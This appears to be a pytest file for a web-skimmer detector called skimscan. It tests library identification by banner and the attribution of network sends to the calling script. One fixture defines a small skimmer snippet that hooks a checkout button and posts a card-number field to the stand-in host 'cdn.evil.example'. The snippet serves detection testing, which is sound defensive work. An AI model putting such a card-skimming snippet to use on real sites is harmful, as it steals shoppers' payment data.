"""Blame the caller, not the library (analyze/libraries.py): libraries are known by their own
banner, and a stack's blame goes to the first script that is not one."""

from __future__ import annotations

from pathlib import Path

import pytest

from skimscan.analyze.libraries import blame, identify, libraries_in
from skimscan.models import (
    Canary,
    PageCapture,
    RequestRecord,
    ScriptKind,
    ScriptSource,
)
from skimscan.pipeline import Engine, EngineOptions
from skimscan.policy.policy import SitePolicy
from skimscan.scanner import analyze_capture

JQUERY = (Path(__file__).resolve().parents[1] / "skimscan/detonate/templates/assets"
          / "jquery-3.7.1.min.js").read_text()


@pytest.mark.parametrize(("code", "name"), [
    (JQUERY, "jQuery"),
    ("/*!\n * jQuery JavaScript Library v1.12.4\n */", "jQuery"),
    ("/*  Prototype JavaScript framework, version 1.7.3\n */", "Prototype"),
    ("/**\n * @license\n * Lodash <https://lodash.com/>\n */", "lodash"),
    ("/*! Axios v1.6.2 Copyright (c) 2023 */", "axios"),
    ("var jQuery = window.jQuery; $.ajax({url: u, data: d});", None),  # uses it, is not it
    ("(function(){ /* jquery.min.js */ })()", None),  # a name is not a banner
])
def test_libraries_are_known_by_their_banner(code: str, name: str | None) -> None:
    assert identify(code) == name


LIBS = {"jq": "jQuery", "proto": "Prototype"}


@pytest.mark.parametrize(("stack", "blamed", "through"), [
    (("jq", "kit"), "kit", ("jq",)),  # $.ajax called by the kit
    (("jq", "proto", "jq", "kit", "app"), "kit", ("jq", "proto")),
    (("kit",), "kit", ()),
    (("jq",), "jq", ()),  # a skimmer appended to jQuery: jQuery is the culprit
    (("jq", "fake"), "fake", ("jq",)),  # all "libraries": the outermost started the call
    ((), None, ()),
])
def test_blame(stack: tuple[str, ...], blamed: str | None, through: tuple[str, ...]) -> None:
    libs = {**LIBS, "fake": "jQuery"}
    assert blame(stack, libs) == (blamed, through)


def test_a_send_through_jquery_is_blamed_on_its_caller() -> None:
    page = "https://shop.example/checkout"
    canary = Canary.generate(seed=3)
    kit = "document.getElementById('pay').onclick = function () { $.post(u, {n: n.value}); };"
    scripts = (
        ScriptSource("s1", JQUERY, "https://shop.example/js/jquery.min.js", ScriptKind.EXTERNAL,
                     frame=page),
        ScriptSource("s2", kit, "https://cdn.evil.example/kit.js", ScriptKind.EXTERNAL,
                     frame=page),
    )
    assert libraries_in(scripts) == {"s1": "jQuery"}
    sent = RequestRecord(url="https://cdn.evil.example/c", method="POST", host="cdn.evil.example",
                         resource_type="xhr", script="s1", stack=("s1", "s2"), quarantined=True,
                         status=204, body=f"n={canary.pan}".encode())
    cap = PageCapture(url=page, final_url=page, status=200, scripts=scripts, requests=(sent,),
                      canary=canary, canary_typed_at=1.0)
    report = analyze_capture(cap, Engine(EngineOptions(use_disk_cache=False, jobs=1)),
                             SitePolicy())
    [f] = [f for f in report.findings if f.rule == "canary-exfiltration"]
    assert f.script == "s2"
    assert f.evidence["through"] == ["s1 (https://shop.example/js/jquery.min.js)"]
    assert "through s1" in f.message
    assert {s.id: s.verdict.value for s in report.scripts}["s2"] == "malicious"
